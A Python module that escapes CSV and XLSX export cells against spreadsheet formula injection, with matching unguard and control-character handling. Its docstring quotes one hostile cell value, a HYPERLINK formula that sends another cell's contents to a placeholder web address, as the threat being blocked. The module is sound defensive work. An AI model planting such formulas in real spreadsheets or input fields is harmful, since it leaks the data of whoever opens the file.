"""Text that a spreadsheet shows and never runs: the one rule every export's cells follow.

A customer may be called ``=HYPERLINK("http://x/?d="&B2,"张三")``: opened in Excel, WPS or
LibreOffice, a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is a formula, which can send the sheet's other cells to a web address or start a
program through DDE. Names, notes, part names and user names are typed by people, so every
text cell is treated as hostile:

- CSV has no types, so a text cell that begins with one of those characters gets a leading
  apostrophe (the OWASP rule): the spreadsheet shows ``'=HYPERLINK(…)`` as text. Numbers
  (money, hours, counts, a negative discount) are not text and are written as they are: a
  number cannot be a formula, and an apostrophe would make it text nobody can add up.
- XLSX cells carry their type: a text cell is stored as a string (``t="inlineStr"``), which no
  spreadsheet evaluates, so it needs no apostrophe and gets none (:func:`needs_guard` tells
  the writers which cells openpyxl would otherwise store as a formula).
- A catalog exported as CSV is imported back (``frontdesk import``), so :func:`unguard`
  removes exactly the apostrophe :func:`guard` added. To keep the pair exact, a text that
  already begins with apostrophes before one of those characters (``'-10``) gets one more
  too; ``unguard`` removes one from any text of apostrophes followed by such a character.
- Rows saved before the text rule (services/text_rule.py) may hold control characters: XLSX
  cannot store them at all (the whole export would fail) and a terminal would obey them in a
  CSV, so every text cell shows them as visible escapes (``\x1b``), as the CLI does.
"""

from __future__ import annotations

import re

from .validation import shown

# Apostrophes, then a character that starts a formula (or a tab / CR a spreadsheet skips first).
_GUARDED = re.compile(r"'*[=+\-@\t\r]")
_UNGUARD = re.compile(r"'+[=+\-@\t\r]")


def needs_guard(text: str) -> bool:
    """Would a spreadsheet read this text cell (from CSV) as a formula, or is it one we escaped?"""
    return _GUARDED.match(text) is not None


def visible(text: str) -> str:
    """A text cell's characters as a sheet can hold and show them: control characters escaped
    (the line breaks of a multi-line note, CR LF included, stay line breaks)."""
    if "\r" in text:
        return "\r".join(shown(part, keep_newlines=True) for part in text.split("\r"))
    return shown(text, keep_newlines=True)


def guard(text: str) -> str:
    """A text cell for CSV: control characters escaped, an apostrophe in front when it would start a formula."""
    text = visible(text)
    return "'" + text if _GUARDED.match(text) else text


def unguard(text: str) -> str:
    """The text :func:`guard` was given (one leading apostrophe removed where guard adds one)."""
    return text[1:] if _UNGUARD.match(text) else text


__all__ = ["guard", "needs_guard", "unguard", "visible"]
